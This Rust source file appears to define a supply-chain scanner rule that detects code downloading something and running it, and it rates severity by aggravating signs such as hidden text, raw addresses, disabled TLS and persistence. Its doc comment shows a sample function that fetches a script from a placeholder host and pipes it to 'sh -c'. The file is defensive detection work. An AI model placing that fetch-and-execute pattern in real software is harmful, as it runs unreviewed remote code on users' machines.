//! What is downloaded is run.

use crate::facts::{Fact, Scope};
use crate::rule::detector;
use crate::source::Unit;
use crate::subject::{Findings, Subject};
use crate::{Confidence, Severity};

detector! {
    /// Something is downloaded and run.
    ///
    /// ## What it does
    /// Looks for functions that, with what they call, use the network and then start a program that
    /// is worked out at run time, hand a script to a shell, load a library or make a file executable;
    /// and for command lines that pipe a download into a shell.
    ///
    /// ## Why is this bad?
    /// What is run is not what was published: nobody can review it, and it can be another thing
    /// tomorrow. Every second-stage loader among the malicious crates that are known works like this.
    /// Updaters and installers do it for a living, which is why it is *medium* unless the download is
    /// hidden, detached, unverified, fetched from digits, put into a temporary directory, or happens
    /// while something is built.
    ///
    /// ## Example
    /// ```rust
    /// pub fn version() -> String {
    ///     let script = ureq::get("https://cdn.example.invalid/v").call().unwrap().into_string().unwrap();
    ///     std::process::Command::new("sh").arg("-c").arg(script).spawn().unwrap();
    ///     "1.0".to_owned()
    /// }
    /// ```
    ///
    /// ## How to fix it
    /// Publish what is run as a crate of its own, or verify it against a key or checksum that is part
    /// of the package, and say so in the documentation.
    DownloadAndRun "download-and-run" Malice High High Stable
}

const RUNS: [Fact; 5] = [
    Fact::DynamicScript,
    Fact::MakeExecutable,
    Fact::DynamicProcess,
    Fact::LoadCode,
    Fact::EmbeddedProgram,
];

/// What no updater does.
const WORSE: [Fact; 6] = [
    Fact::HiddenText,
    Fact::RawAddress,
    Fact::TlsOff,
    Fact::Detached,
    Fact::AntiAnalysis,
    Fact::Persistence,
];

impl DownloadAndRun {
    pub(crate) fn detect(subject: &Subject<'_>, findings: &mut Findings) {
        let mut scopes = subject.facts().scopes(3, runs_a_download);
        // Tests start programs and servers of their own.
        scopes.extend(
            subject
                .facts()
                .test_scopes(3, |scope| runs_a_download(scope) && is_bad_in_tests(scope)),
        );
        for scope in scopes {
            let (severity, confidence) = match (worse(&scope), scope.unit) {
                (0, Unit::Example) => (Severity::Low, Confidence::Medium),
                (0, _) => (Severity::Medium, Confidence::Medium),
                (1, Unit::Example | Unit::Test) => (Severity::High, Confidence::Low),
                (1, _) => (Severity::High, Confidence::Medium),
                _ => (Severity::High, Confidence::High),
            };
            let mut shown = vec![Fact::PipeToShell, Fact::Network, Fact::NetworkCommand];
            shown.extend(RUNS);
            shown.extend(WORSE);
            let message = format!("{} downloads something and runs it", scope.unit.as_str());
            findings
                .rated(
                    &Self::RULE,
                    severity,
                    confidence,
                    message,
                    scope.places(subject, &shown),
                )
                .reached_as(&scope);
        }
    }
}

/// How much there is that no updater does.
fn worse(scope: &Scope<'_>) -> usize {
    let both = |one, two| usize::from(scope.has(one) && scope.has(two));
    // Programs let their users decide about certificates.
    let counts =
        |&&fact: &&Fact| scope.has(fact) && (fact != Fact::TlsOff || scope.unit != Unit::Binary);
    WORSE.iter().filter(counts).count()
        + usize::from(scope.unit.is_build())
        + both(Fact::DynamicScript, Fact::Network)
        + both(Fact::TempDirectory, Fact::MakeExecutable)
        + both(Fact::TempDirectory, Fact::Silenced)
        + usize::from(scope.has(Fact::PipeToShell) && scope.unit != Unit::Binary)
}

/// Tests have servers, programs and processes of their own; none of them hides
/// what it fetches.
fn is_bad_in_tests(scope: &Scope<'_>) -> bool {
    let fetched = scope.has(Fact::Address)
        && scope.has(Fact::TempDirectory)
        && scope.has(Fact::MakeExecutable);
    fetched || scope.any(&[Fact::HiddenText, Fact::RawAddress, Fact::PipeToShell])
}

fn runs_a_download(scope: &Scope<'_>) -> bool {
    let starts = scope.any(&[Fact::Process, Fact::LoadCode]);
    let piped = scope.has(Fact::PipeToShell) && scope.has(Fact::Process);
    let fetches =
        scope.has(Fact::Network) || (scope.has(Fact::NetworkCommand) && scope.has(Fact::Process));
    let script = scope.has(Fact::DynamicScript);
    let program = (scope.has(Fact::DynamicProcess)
        || scope.has(Fact::MakeExecutable)
        || scope.has(Fact::Shell))
        && scope.has(Fact::FileWrite)
        && starts;
    let library = scope.has(Fact::LoadCode) && scope.has(Fact::FileWrite);
    piped || fetches && (script && starts || program || library)
}
